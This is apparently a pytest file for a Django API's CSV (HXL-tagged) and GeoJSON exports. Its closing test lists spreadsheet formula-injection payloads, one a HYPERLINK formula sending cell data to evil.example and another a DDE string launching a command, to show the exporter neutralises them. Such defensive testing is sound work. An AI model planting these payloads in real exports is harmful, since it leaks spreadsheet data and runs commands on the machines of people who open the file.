"""CSV with an HXL hashtag row (validated with libhxl) and GeoJSON, exactly."""

import csv
import io

import hxl
import pytest

from monusco.models import Locality
from tests.api.conftest import token_client
from tests.factories import api_alert, make_alert, make_review
from tests.factories.api import meeting_with_details, mission, plan_with_details

pytestmark = pytest.mark.django_db


def _hxl(content: bytes):
    dataset = hxl.data(hxl.input.make_input(io.BytesIO(content)))
    rows = [row.values for row in dataset]
    assert hxl.schema().validate(dataset) is True
    return dataset, rows


@pytest.mark.parametrize("resource", ["localities", "bases", "meetings", "plans", "alerts", "missions", "reviews"])
def test_csv_has_a_valid_hxl_row_under_the_header(resource, world, tokens, users):
    meeting = meeting_with_details(base=world.base)
    plan_with_details(base=world.base)
    api_alert(world)
    mission(localities=[world.uvira, world.sange], bases=[world.base])
    make_review(meeting, users["gender"], "returned", comment="Add women's views", direct=True, report_type="meeting")
    response = token_client(tokens.inside_key).get(f"/api/v1/{resource}/?format=csv&page_size=500")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    lines = response.content.decode().split("\r\n")
    assert lines[1].startswith("#")
    dataset, rows = _hxl(response.content)
    assert all(column.tag for column in dataset.columns)
    assert len(dataset.columns) == len(lines[0].split(","))
    expected = {"localities": Locality.objects.filter(territory__province=world.south).count(), "bases": 2}
    assert len(rows) == expected.get(resource, 1)


def test_locality_csv_exact(world, tokens):
    response = token_client(tokens.narrow_key).get("/api/v1/localities/?format=csv&name=sange")
    dataset, rows = _hxl(response.content)
    assert [column.display_tag for column in dataset.columns] == [
        "#loc+code",
        "#loc+name",
        "#adm2+name",
        "#adm1+name",
        "#geo+lat",
        "#geo+lon",
        "#geo+precision",
        "#date+updated",
    ]
    sange = world.sange
    assert [row[:7] for row in rows] == [
        [str(sange.uid), "Sange", "Uvira", "South Kivu", "-3.08", "29.12", sange.precision]
    ]


def test_meeting_csv_values(world, tokens):
    meeting = meeting_with_details(base=world.base)
    response = token_client(tokens.inside_key).get("/api/v1/meetings/?format=csv")
    dataset, rows = _hxl(response.content)
    by_tag = dict(zip([c.display_tag for c in dataset.columns], rows[0], strict=True))
    assert by_tag["#meta+id"] == str(meeting.uid)
    assert by_tag["#org+code"] == "cob-uvira"
    assert by_tag["#reached+f+adults"] == "6"
    assert by_tag["#reached+m+children"] == "2"
    assert by_tag["#event+type"] == "looting"
    assert by_tag["#group+stakeholders"] == "chief|women_associations"


def test_locality_geojson_exact(world, tokens):
    response = token_client(tokens.narrow_key).get("/api/v1/localities/?format=geojson&name=sange")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    sange = world.sange
    assert response.json() == {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "id": str(sange.uid),
                "geometry": {"type": "Point", "coordinates": [29.12, -3.08]},
                "properties": {
                    "name": "Sange",
                    "territory": {"uid": str(world.uvira_t.uid), "name": "Uvira"},
                    "province": {"uid": str(world.south.uid), "name": "South Kivu"},
                    "latitude": -3.08,
                    "longitude": 29.12,
                    "precision": sange.precision,
                    "updated_at": sange.updated_at.isoformat().replace("+00:00", "Z"),
                },
            }
        ],
        "next": None,
        "previous": None,
    }


def test_base_geojson_detail_is_one_feature(world, tokens):
    response = token_client(tokens.inside_key).get(f"/api/v1/bases/{world.base.uid}/?format=geojson")
    body = response.json()
    assert (body["type"], body["id"], body["geometry"]) == (
        "Feature",
        str(world.base.uid),
        {"type": "Point", "coordinates": [29.1378, -3.3953]},
    )
    assert body["properties"]["code"] == "cob-uvira"
    assert body["properties"]["coverage"] == ["Sange", "Uvira"]


def test_geojson_is_not_offered_for_meetings(world, tokens):
    response = token_client(tokens.inside_key).get("/api/v1/meetings/?format=geojson")
    assert response.status_code == 406
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"detail": "This format is not available here. Use json, csv or geojson where listed."}


def test_errors_are_json_even_when_csv_was_asked(world, tokens):
    response = token_client(tokens.inside_key).get("/api/v1/meetings/?format=csv&date_from=yesterday")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()["errors"] == {"date_from": ["Enter a date as YYYY-MM-DD, e.g. 2026-11-01."]}


def test_cursor_pagination_walks_every_record_once(world, tokens):
    meetings = [meeting_with_details(base=world.base) for _ in range(7)]
    client = token_client(tokens.inside_key)
    seen, url = [], "/api/v1/meetings/?page_size=3&ordering=held_on"
    while url:
        body = client.get(url).json()
        seen += [row["uid"] for row in body["results"]]
        url = body["next"]
    assert seen == [str(m.uid) for m in sorted(meetings, key=lambda m: (m.held_on, m.pk))]


def test_page_size_is_capped_at_500(world, tokens):
    Locality.objects.bulk_create(
        Locality(territory=world.uvira_t, name=f"Hamlet {n:03d}", latitude="-3.4", longitude="29.1") for n in range(501)
    )
    body = token_client(tokens.inside_key).get("/api/v1/localities/?page_size=100000").json()
    assert len(body["results"]) == 500
    assert body["next"] is not None


def test_bad_cursor_answers_404_with_a_message(world, tokens):
    response = token_client(tokens.inside_key).get("/api/v1/meetings/?cursor=garbage")
    assert (response.status_code, response.json()) == (
        404,
        {"detail": "This page link is not valid. Start again from the first page."},
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+243 thanks",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(world, tokens):
    alerts = [
        make_alert(
            world.base,
            locality=world.sange,
            threat_category="looting",
            description=text,
            status="acknowledged",
            events=True,
            women=2,
            men=1,
            girls=1,
        )
        for text in FORMULAS
    ]
    mission(localities=[world.uvira], bases=[world.base], title="=1+1")
    client = token_client(tokens.inside_key)
    content = client.get("/api/v1/alerts/?format=csv&ordering=created_at").content
    _hxl(content)  # still valid HXL
    _header, tags, *rows = csv.reader(io.StringIO(content.decode(), newline=""))
    cells = [dict(zip(tags, row, strict=True)) for row in rows]
    assert [row["#description"] for row in cells] == [f"'{text}" for text in FORMULAS]
    # the sender typed no number here; the coordinates are numbers, negative ones included
    assert {(row["#geo+lat"], row["#geo+lon"]) for row in cells} == {("-3.08", "29.12")}
    assert [row["#event+id"] for row in cells] == [str(a.uid) for a in alerts]
    _dataset, rows = _hxl(client.get("/api/v1/missions/?format=csv").content)
    assert [row[1] for row in rows] == ["'=1+1"]
    # JSON and GeoJSON carry the text as it is
    assert [
        row["description"] for row in client.get("/api/v1/alerts/?ordering=created_at").json()["results"]
    ] == FORMULAS


def test_every_cell_of_the_renderer_goes_through_the_one_function(monkeypatch):
    from monusco.api import renderers

    seen = []
    monkeypatch.setattr(renderers, "spreadsheet_safe", lambda value: seen.append(value) or value)
    view = type("View", (), {"csv_columns": [("a", "a", "#a"), ("b", "b", "#b"), ("c", "c", "#c")]})()
    renderers.HXLCSVRenderer().render([{"a": "=x", "b": -3.5, "c": ["@y", "z"]}], renderer_context={"view": view})
    assert seen == ["a", "b", "c", "#a", "#b", "#c", "=x", "@y|z"]
